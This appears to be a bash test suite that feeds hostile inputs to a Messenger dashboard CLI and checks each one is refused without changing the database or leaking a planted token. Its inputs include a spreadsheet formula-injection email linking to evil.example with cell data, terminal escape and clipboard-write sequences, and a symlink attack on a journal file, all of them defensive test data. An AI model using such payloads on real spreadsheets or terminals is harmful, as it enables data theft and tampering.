#!/usr/bin/env bash
# Hostile inputs: each case must exit 1 (bad data) or 2 (bad usage) with one clear line on stderr,
# print no secret, and leave the database byte for byte as it was.
source "$(dirname "$0")/lib/common.bash"
DB="$WORK/h.db"
M() { "$BIN" --db "$DB" "$@"; }
export MESSENGER_DASH_NOW=2026-11-25T10:00:00Z
TOKEN="EAA-PLANTED-SECRET-TOKEN-77"
printf '{"data":[{"id":"5001","name":"Shop","tasks":["MANAGE","MESSAGING"],"access_token":"%s"}]}' "$TOKEN" >"$WORK/a.json"
M pages import "$WORK/a.json" >/dev/null
FIELD=$(M profiles create Shop --page 5001 | sed -n 's/^Opt-in field: //p')
printf 'EMAIL,FIRSTNAME,%s\nann@example.com,Ann,psid-ann\n' "$FIELD" >"$WORK/c.csv"
M contacts import "$WORK/c.csv" >/dev/null
M programs create Orders >/dev/null
M programs node Orders --profile Shop --utility --message "Your order @FIRSTNAME@ has shipped today." >/dev/null
cases=0
# hostile CODE DESCRIPTION -- COMMAND...: one line, the code, nothing changed, no secret.
hostile() {
  local code=$1 what=$2; shift 3
  local before; before=$(sqlite3 "$DB" .dump)
  expect "$code" "$what" -- "$@" || true
  [ "$(sqlite3 "$DB" .dump)" == "$before" ] && ok || fail "$what: the database changed"
  grep -qF "$TOKEN" <<<"$OUT$ERR" && fail "$what: the page token was printed" || ok
  cases=$((cases + 1))
}
f() { printf '%b' "$2" >"$WORK/$1"; echo "$WORK/$1"; }

# Profile names
hostile 1 "empty name" -- M profiles create "" --page 5001
hostile 1 "blank name" -- M profiles create "   " --page 5001
hostile 1 "101 characters" -- M profiles create "$(printf 'x%.0s' {1..101})" --page 5001
hostile 1 "a control character" -- M profiles create $'a\x01b' --page 5001
hostile 1 "an escape sequence" -- M profiles create $'red\e[31m' --page 5001
hostile 1 "an OSC 52 clipboard write" -- M profiles create $'x\e]52;c;aGk=\a' --page 5001
hostile 1 "a bidi override" -- M profiles create $'abc\u202Edef' --page 5001
hostile 1 "a zero-width space" -- M profiles create $'a\u200Bb' --page 5001
hostile 1 "a newline" -- M profiles create $'two\nlines' --page 5001
hostile 1 "a duplicate ignoring case" -- M profiles create "SHOP" --page 5001
hostile 1 "a page that isn't there" -- M profiles create "Other" --page 999
hostile 2 "no page" -- M profiles create "Other"
# CSV
hostile 1 "CSV: an unclosed quote" -- M contacts import "$(f q.csv 'EMAIL,CITY\nx@example.com,"Oslo\n')"
hostile 1 "CSV: a stray quote" -- M contacts import "$(f s.csv 'EMAIL,CITY\nx@example.com,Os"lo\n')"
hostile 1 "CSV: a duplicate email" -- M contacts import "$(f d.csv 'EMAIL\nx@example.com\nX@Example.com\n')"
hostile 1 "CSV: no EMAIL column" -- M contacts import "$(f n.csv 'NAME\nann\n')"
hostile 1 "CSV: a ragged row" -- M contacts import "$(f r.csv 'EMAIL,CITY\nx@example.com\n')"
hostile 1 "CSV: not an email" -- M contacts import "$(f e.csv 'EMAIL\nnot-an-email\n')"
hostile 1 "CSV: not UTF-8" -- M contacts import "$(f u.csv 'EMAIL\n\xff\xfe@example.com\n')"
hostile 1 "CSV: a bad field name" -- M contacts import "$(f b.csv 'EMAIL,BAD NAME\nx@example.com,1\n')"
hostile 1 "CSV: an unknown FBOPTIN column" -- M contacts import "$(f o.csv 'EMAIL,FBOPTIN_ZZZZ\nx@example.com,1\n')"
hostile 1 "CSV: empty" -- M contacts import "$(f z.csv '')"
python3 -c "import sys; open(sys.argv[1],'w').write('EMAIL,NOTE\nx@example.com,' + 'y'*(10*1024*1024) + '\n')" "$WORK/big.csv"
hostile 1 "CSV: a 10 MB line" -- M contacts import "$WORK/big.csv"
hostile 1 "CSV: a folder, not a file" -- M contacts import "$WORK"
hostile 1 "CSV: a missing file" -- M contacts import "$WORK/none.csv"
# #26: columns and fields capped, fields counted in characters, quickly.
python3 -c "import sys; open(sys.argv[1],'w').write('EMAIL,' + ','.join('F%d' % i for i in range(500)) + '\\nx@example.com' + ',1' * 500 + '\\n')" "$WORK/501.csv"
hostile 1 "CSV: 501 columns" -- M contacts import "$WORK/501.csv"
contains "501 columns: the limit named" "more than 500 columns" "$ERR"
python3 -c "import sys; open(sys.argv[1],'w').write('EMAIL,' + ','.join('F%d' % i for i in range(1000000)) + '\\n')" "$WORK/wide.csv"
started_at=$(date +%s)
hostile 1 "CSV: a million columns in 10 MB" -- M contacts import "$WORK/wide.csv"
[ $(($(date +%s) - started_at)) -lt 30 ] && ok || fail "a million columns took $(($(date +%s) - started_at)) s to refuse (it took 218 s)"
python3 -c "import sys; open(sys.argv[1],'w').write('EMAIL,NOTE\\nx@example.com,' + 'é' * 65537 + '\\n')" "$WORK/e65537.csv"
hostile 1 "CSV: a field of 65,537 characters" -- M contacts import "$WORK/e65537.csv"
contains "65,537 é: refused in characters" "a field longer than 65536 characters" "$ERR"
hostile 1 "fields: delete one a message uses" -- M contacts fields delete FIRSTNAME --yes
contains "the program that uses it is named" '"Orders"' "$ERR"
hostile 1 "fields: delete a profile's opt-in field" -- M contacts fields delete "$FIELD" --yes
hostile 1 "fields: delete one that isn't there" -- M contacts fields delete NOPE --yes
# Webhook JSON
hostile 1 "JSON: malformed" -- M optins ingest "$(f m.jsonl '{"object":"page",\n')"
hostile 0 "JSON: another object (skipped, as the webhook does)" -- M optins ingest "$(f w.jsonl '{"object":"user","entry":[{"id":"1","time":1,"changes":[]}]}\n')"
hostile 1 "JSON: entry not an array" -- M receipts ingest "$(f x.jsonl '{"object":"page","entry":{}}\n')"
hostile 1 "JSON: a boolean timestamp" -- M receipts ingest "$(f t.jsonl '{"object":"page","entry":[{"id":"5001","messaging":[{"sender":{"id":"p"},"recipient":{"id":"5001"},"timestamp":true,"read":{"watermark":1}}]}]}\n')"
hostile 1 "JSON: an unknown page" -- M optins ingest "$(f p.jsonl '{"object":"page","entry":[{"id":"42","messaging":[{"sender":{"id":"p"},"recipient":{"id":"42"},"timestamp":1,"optin":{"ref":"ann@example.com"}}]}]}\n')"
hostile 1 "JSON: recipient is not the entry's page" -- M receipts ingest "$(f rp.jsonl '{"object":"page","entry":[{"id":"5001","messaging":[{"sender":{"id":"p"},"recipient":{"id":"5002"},"timestamp":1,"read":{"watermark":1}}]}]}\n')"
python3 -c "import sys; open(sys.argv[1],'w').write('{\"object\":\"page\",\"entry\":[' + ','.join(['{\"id\":\"5001\",\"messaging\":[]}']*70000) + ']}\n')" "$WORK/huge.jsonl"
hostile 1 "JSON: a huge body" -- M receipts ingest "$WORK/huge.jsonl"
hostile 1 "JSON: /me/accounts that isn't" -- M pages import "$(f acc.json '[1,2,3]')"
# Templates
hostile 1 "template: an unclosed @" -- M programs node Orders --profile Shop --utility --message "Order @FIRSTNAME shipped"
hostile 1 "template: an unknown field" -- M programs node Orders --profile Shop --utility --message "Order @NOPE@ shipped"
hostile 1 "template: 2001 characters" -- M programs node Orders --profile Shop --utility --message "$(printf 'o%.0s' {1..2001})"
hostile 1 "template: promotional, unconfirmed" -- M programs node Orders --profile Shop --utility --message "Order shipped, 20% off next!"
hostile 1 "template: an unknown tag" -- M programs node Orders --profile Shop --tag Shipping_update --message "Order shipped"
hostile 1 "template: a retired tag (2026)" -- M programs node Orders --profile Shop --tag Post_purchase_update --message "Order shipped"
hostile 1 "template: a parameter ends it" -- M programs node Orders --profile Shop --utility --message "Your order has shipped, @FIRSTNAME@"
hostile 1 "template: Meta's braces" -- M programs node Orders --profile Shop --utility --message "Your order {{1}} has shipped today."
hostile 1 "template: too many fields for its words" -- M programs node Orders --profile Shop --utility --message "Hi @FIRSTNAME@ @FIRSTNAME@ @ORDERNUMBER@ ok."
hostile 1 "template: a language with a newline" -- M programs node Orders --profile Shop --utility --language "$(printf 'en\nUS')" --message "Your order has shipped today."
hostile 2 "template: a language without --utility" -- M programs node Orders --profile Shop --tag Account_update --language en_US --message "Your account changed."
hostile 1 "convert: an unknown program" -- M programs convert "$(printf 'No\033[31mpe')"
hostile 1 "show: an unknown program" -- M programs show "$(printf 'No\033[31mpe')"
hostile 2 "template: no message" -- M programs node Orders --profile Shop --utility
# Usage and dates
hostile 2 "a malformed date" -- M stats Shop --from 2026-13-01
hostile 1 "a date outside the 7 days" -- M stats Shop --from 2026-01-01
hostile 2 "an unknown filter" -- M stats Shop --filter nope
hostile 2 "an unknown command" -- M frobnicate
# Themes (the dashboard falls back with one line; the settings file is refused with one line)
mkdir -p "$XDG_CONFIG_HOME/messenger-dash"
printf 'theme = \n' >"$XDG_CONFIG_HOME/messenger-dash/config.toml"
hostile 1 "config: broken TOML" -- M profiles list
printf 'timezone = "Mars/Olympus"\n' >"$XDG_CONFIG_HOME/messenger-dash/config.toml"
hostile 1 "config: an unknown time zone" -- M profiles list
printf '\x00\x01\x02' >"$XDG_CONFIG_HOME/messenger-dash/config.toml"
hostile 1 "config: a binary file" -- M profiles list
rm "$XDG_CONFIG_HOME/messenger-dash/config.toml"
hostile 1 "env: a bad MESSENGER_DASH_TZ" -- env MESSENGER_DASH_TZ=Nowhere/Land "$BIN" --db "$DB" profiles list
# The database
head -c 8192 /dev/urandom >"$WORK/corrupt.db"
expect 1 "a corrupt database" -- "$BIN" --db "$WORK/corrupt.db" profiles list; cases=$((cases + 1))
expect 1 "a missing folder" -- "$BIN" --db "$WORK/no/such/folder/m.db" pages import "$WORK/a.json"; cases=$((cases + 1))
[ ! -e "$WORK/no" ] && ok || fail "a folder was created for a missing-folder database"
expect 1 "a missing database" -- "$BIN" --db "$WORK/absent.db" stats Shop; cases=$((cases + 1))
cp "$DB" "$WORK/newer.db"; sqlite3 "$WORK/newer.db" "INSERT INTO grdb_migrations VALUES ('v99-from-the-future')"
expect 1 "a database from a newer version" -- "$BIN" --db "$WORK/newer.db" profiles list; cases=$((cases + 1))
cp "$DB" "$WORK/ro.db"; chmod 0400 "$WORK/ro.db"
if [ "$(id -u)" -ne 0 ]; then expect 1 "a read-only database" -- "$BIN" --db "$WORK/ro.db" profiles list; cases=$((cases + 1)); fi
python3 - "$DB" "$WORK/locked" <<'PY' &
import sqlite3, sys, time
c = sqlite3.connect(sys.argv[1], timeout=0)
c.execute("BEGIN EXCLUSIVE")
open(sys.argv[2], "w").close()  # the lock is held
time.sleep(8)
PY
locker=$!
started $locker
wait_until "the locker holds the database" test -e "$WORK/locked"
expect 1 "a locked database" -- "$BIN" --db "$DB" programs create Locked; cases=$((cases + 1))
contains "the lock is named" "locked" "$ERR"
wait "$locker"

# #26: JSON lines streamed, a line capped at 1 MiB with its number; all or nothing.
NEWER='{"object":"page","entry":[{"id":"5001","time":1900000000000,"messaging":[{"sender":{"id":"psid-new"},"recipient":{"id":"5001"},"timestamp":1900000000000,"optin":{"ref":"ann@example.com"}}]}]}'
{ echo "$NEWER"; echo; python3 -c "print('{\"object\":\"page\",\"note\":\"' + 'x' * (2 << 20) + '\"}')"; } >"$WORK/long3.jsonl"
hostile 1 "JSON: line 3 over 1 MiB, after an opt-in on line 1" -- M optins ingest "$WORK/long3.jsonl"
contains "the long line is named" "line 3: longer than 1048576 bytes (1 MiB)" "$ERR"
python3 -c "import sys; f=open(sys.argv[1],'w'); f.write('{\"a\":\"'); [f.write('x' * (1 << 20)) for _ in range(300)]; f.write('\"}\\n')" "$WORK/one-line.jsonl"
# The peak memory of the command, from its parent (ru_maxrss of the children, in kB).
peak_kb() { python3 -c 'import resource, subprocess, sys; subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL); print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)' "$@"; }
kb=$(peak_kb "$BIN" --db "$DB" receipts ingest "$WORK/one-line.jsonl")
[ "$kb" -lt 65536 ] && ok || fail "a 300 MB one-line file took $((kb / 1024)) MB to refuse (the limit is 64 MB; it took 1.57 GB)"
hostile 1 "JSON: one line of 300 MB" -- M receipts ingest "$WORK/one-line.jsonl"
rm -f "$WORK/one-line.jsonl"
python3 -c "
import sys
with open(sys.argv[1], 'w') as f:
    for i in range(250000):
        f.write('{\"object\":\"page\",\"entry\":[{\"id\":\"5001\",\"time\":%d,\"messaging\":[{\"sender\":{\"id\":\"psid-%d\"},\"recipient\":{\"id\":\"5001\"},\"timestamp\":%d,\"delivery\":{\"mids\":[],\"watermark\":%d}}]}]}\\n' % (i, i, i, i))
" "$WORK/many.jsonl"
kb=$(peak_kb "$BIN" --db "$DB" receipts ingest "$WORK/many.jsonl")
[ "$kb" -lt 65536 ] && ok || fail "$(($(stat -c %s "$WORK/many.jsonl") >> 20)) MB of small receipts took $((kb / 1024)) MB (the limit is 64 MB)"
rm -f "$WORK/many.jsonl"
# Security: created files are private, and the token never shows.
expect 0 "the default database" -- "$BIN" pages import "$WORK/a.json"
mode=$(stat -c %a "$XDG_DATA_HOME/messenger-dash"); file=$(stat -c %a "$XDG_DATA_HOME/messenger-dash/messenger.db")
[ "$mode" = 700 ] && [ "$file" = 600 ] && ok || fail "default folder $mode, database $file (wanted 700 and 600)"
for cmd in "pages list" "pages list --json" "profiles list --json" "profiles show Shop --json" "stats Shop --json" "stats Shop --csv"; do
  out=$(M $cmd 2>&1)
  grep -qF "$TOKEN" <<<"$out" && fail "the token shows in: $cmd" || ok
done
# Files in and out (#26). A contact whose email a spreadsheet would run as a formula: the export
# writes it with a leading ' (the JSON keeps it as it is).
printf 'EMAIL,FIRSTNAME\n"=HYPERLINK(""http://evil.example/?x=""&B1)&""@x.com",Eve\n' >"$WORK/formula.csv"
M contacts import "$WORK/formula.csv" >/dev/null
M programs activate Orders >/dev/null
# A link planted where the run keeps its answer journal: the run refuses to write through it.
JOURNAL="$DB-answers-$(sqlite3 "$DB" "SELECT id FROM program WHERE name = 'Orders'")"
printf 'precious\n' >"$WORK/precious"
ln -sf "$WORK/precious" "$JOURNAL"
M programs run Orders >/dev/null 2>&1
[ "$(cat "$WORK/precious")" = precious ] && ok || fail "the run wrote through a link planted as its journal"
rm -f "$JOURNAL"
expect 0 "the warnings of the day as CSV" -- M stats Shop --contacts warning --date 2026-11-25 --csv
grep -q "^\"'=HYPERLINK(" <<<"$OUT" && ok || fail "a formula cell went out live: $OUT"
expect 0 "and as JSON" -- M stats Shop --contacts warning --date 2026-11-25 --json
grep -qF '"=HYPERLINK(' <<<"$OUT" && ok || fail "JSON changed the value: $OUT"
# A secret others can read is named with the fix, as ssh does.
printf 'CLIENT-TOKEN\n' >"$WORK/shared-token"
chmod 644 "$WORK/shared-token"
MESSENGER_DASH_GRAPH_URL=http://127.0.0.1:9 "$BIN" --db "$WORK/none.db" --facebook graph login --client-token-file "$WORK/shared-token" </dev/null >/dev/null 2>"$WORK/login.err"
grep -q "readable by others (mode 644): chmod 600" "$WORK/login.err" && ok || fail "no warning for a secret others can read: $(cat "$WORK/login.err")"
chmod 600 "$WORK/shared-token"
MESSENGER_DASH_GRAPH_URL=http://127.0.0.1:9 "$BIN" --db "$WORK/none.db" --facebook graph login --client-token-file "$WORK/shared-token" </dev/null >/dev/null 2>"$WORK/login.err"
grep -q "chmod 600" "$WORK/login.err" && fail "a warning for a private secret" || ok
echo "hostile cases tried: $cases"
[ "$cases" -ge 40 ] && ok || fail "only $cases hostile cases"
finish
